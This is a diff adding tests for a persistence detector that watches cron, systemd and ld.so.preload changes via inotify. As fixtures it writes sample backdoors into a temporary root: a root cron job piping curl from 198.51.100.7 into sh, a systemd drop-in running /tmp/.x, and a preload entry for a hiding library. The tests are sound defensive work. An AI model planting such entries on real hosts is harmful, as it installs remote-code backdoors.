@@ -479,3 +479,59 @@ describe('persistence on the real /etc (files created and removed by this test)'
     expect(mine()).toEqual([`cron_job_removed ${paths[0]}`, `shell_profile_changed ${paths[2]}`, `systemd_unit_removed ${paths[1]}`]);
   });
 });
+
+describe('persistence told by the kernel (inotify), between full comparisons', () => {
+  let h: ReturnType<typeof host>;
+  beforeEach(() => {
+    h = host();
+  });
+  afterEach(() => rmSync(h.root, { recursive: true, force: true }));
+  // The real clock and a full comparison only hourly: what is reported here was notified.
+  const make = (cfg: Record<string, unknown> = {}) =>
+    def.create(
+      def.config.parse({ root: h.root, files_interval: '1h', categories: ['cron', 'systemd', 'preload'], ...cfg }),
+      testContext(join(h.root, 'state'), { procRoot: h.proc }),
+    );
+  const notified = (d: ReturnType<typeof make>) => (d as unknown as { notifications: number }).notifications;
+  const until = async (pred: () => boolean) => {
+    for (let i = 0; i < 250 && !pred(); i++) await new Promise((r) => setTimeout(r, 20));
+    return pred();
+  };
+
+  it('a cron job, a drop-in in a folder created meanwhile, and ld.so.preload are reported at the next gather', async () => {
+    const d = make();
+    const r = record();
+    await d.gather!(r.acc);
+    expect(r.events).toEqual([]);
+    h.put('/etc/cron.d/backdoor', '* * * * * root curl -s http://198.51.100.7/x | sh\n');
+    expect(await until(() => notified(d) >= 1)).toBe(true);
+    await d.gather!(r.acc);
+    expect(r.events.map((e) => `${e.type} ${String(e.evidence!.path)}`)).toEqual(['cron_job_added /etc/cron.d/backdoor']);
+    // A new folder under a watched tree: its creation is told, and then the folder is watched too.
+    mkdirSync(join(h.root, '/etc/systemd/system/ssh.service.d'));
+    expect(await until(() => notified(d) >= 2)).toBe(true);
+    await d.gather!(r.acc);
+    h.put('/etc/systemd/system/ssh.service.d/override.conf', '[Service]\nExecStartPre=/tmp/.x\n');
+    expect(await until(() => notified(d) >= 3)).toBe(true);
+    // A file watched by name in a folder that is not walked (/etc).
+    h.put('/etc/ld.so.preload', '/tmp/.x/libhide.so\n');
+    await d.gather!(r.acc);
+    expect(r.events.map((e) => `${e.type} ${String(e.evidence!.path)}`).sort()).toEqual([
+      'cron_job_added /etc/cron.d/backdoor',
+      'preload_set /etc/ld.so.preload',
+      'systemd_unit_added /etc/systemd/system/ssh.service.d/override.conf',
+    ]);
+    await d.stop!();
+  });
+
+  it('with watch: false a change waits for files_interval', async () => {
+    const d = make({ watch: false });
+    const r = record();
+    await d.gather!(r.acc);
+    h.put('/etc/cron.d/backdoor', '* * * * * root id\n');
+    await d.gather!(r.acc);
+    expect(r.events).toEqual([]);
+    expect(notified(d)).toBe(0);
+    await d.stop!();
+  });
+});
